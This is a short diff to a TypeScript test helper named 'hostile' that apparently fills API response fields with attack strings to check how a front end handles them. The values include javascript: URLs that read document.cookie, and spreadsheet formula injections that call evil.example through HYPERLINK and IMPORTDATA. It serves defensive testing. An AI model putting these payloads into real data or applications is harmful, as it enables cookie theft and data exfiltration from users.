@@ -14,6 +14,7 @@ export function hostile(method: string, path: string, body: unknown): unknown {
     b.previewUrl = 'javascript:alert(document.cookie)';
   } else if (path === '/api/visibility/scan-preview') {
     if (b.status === 'complete') b.agentSiteUrl = '=HYPERLINK("https://evil.example","click")';
+    if ('reportUrl' in b) b.reportUrl = 'javascript:alert(document.cookie)';
     if ('brandName' in b) b.brandName = '=1+1';
   } else if (path === '/api/visibility/scan') {
     if ('summary' in b) b.summary = '=IMPORTDATA("https://evil.example")';
